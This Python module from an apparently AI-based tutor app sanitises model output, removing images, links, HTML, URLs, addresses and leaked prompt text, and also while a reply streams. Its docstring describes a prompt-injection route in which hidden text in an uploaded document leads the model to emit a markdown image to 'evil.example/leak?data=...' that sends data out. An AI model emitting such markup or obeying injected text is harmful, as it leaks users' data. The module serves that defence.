"""Model output made safe to render: no HTML, no images, no links out of the app, no prompt.

A model can be talked into emitting markup by text hidden in an uploaded document
(``![x](https://evil.example/leak?data=...)`` would make the browser call out).
Everything the model writes passes through :func:`safe_markdown` before it reaches a
page, also while it streams (the filter is applied to the text so far each time).

The patterns below remove what they recognise; then what could still form a link or
an image is broken structurally, because regular expressions cannot follow CommonMark's
nesting (``![a [b] c](//host/x.png)`` is an image whose text has brackets): ``](``
becomes ``] (`` and ``]:`` becomes ``] :`` (CommonMark allows no space in either, so
no inline link, image or reference definition survives), and e-mail addresses and
URLs of any scheme (GFM links them even without a dot in the host) are replaced.
Sentences that repeat the tutor's own instructions are cut first
(:mod:`tutor.agent.prompt_leaks`).
"""

from __future__ import annotations

import re

from tutor.agent.prompt_leaks import settled, without_prompt_leaks
from tutor.content.text_cleaning import clean_text

_IMAGE = re.compile(r"!\[[^\]]*\]\([^)]*\)?")
_REFERENCE_IMAGE = re.compile(r"!\[[^\]]*\]\[[^\]]*\]")
_LINK = re.compile(r"\[([^\]]*)\]\([^)]*\)?")
_REFERENCE_DEFINITION = re.compile(r"^[ \t>]*\[(?:\\.|[^\]\\])+\]:\s*\S+.*$", re.MULTILINE)
_TAG = re.compile(r"</?[A-Za-z!][^>]*>?")
_URL = re.compile(r"\b(?:https?|ftp|data|javascript|file|mailto|vbscript):[^\s)>\]]*", re.IGNORECASE)
_WWW = re.compile(r"\bwww\.[^\s)>\]]+", re.IGNORECASE)
_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")


def safe_markdown(text: str, *, complete: bool = True) -> str:
    """Strip images, links (their text stays), HTML tags, URLs, hidden characters and prompt leaks.

    ``complete=False`` for a reply still streaming: only its settled part is returned
    (:func:`~tutor.agent.prompt_leaks.settled`), judged on the same cleaned text as the
    whole reply will be, so hidden characters cannot split a leaked window only while it streams.
    """
    text = clean_text(text)
    text = without_prompt_leaks(text) if complete else settled(text)
    text = _IMAGE.sub("", text)
    text = _REFERENCE_IMAGE.sub("", text)
    text = _REFERENCE_DEFINITION.sub("", text)
    text = _LINK.sub(lambda m: m.group(1), text)
    text = _TAG.sub("", text)
    text = _URL.sub("[link removed]", text)
    text = _WWW.sub("[link removed]", text)
    text = _EMAIL.sub("[address removed]", text)
    return text.replace("](", "] (").replace("]:", "] :")
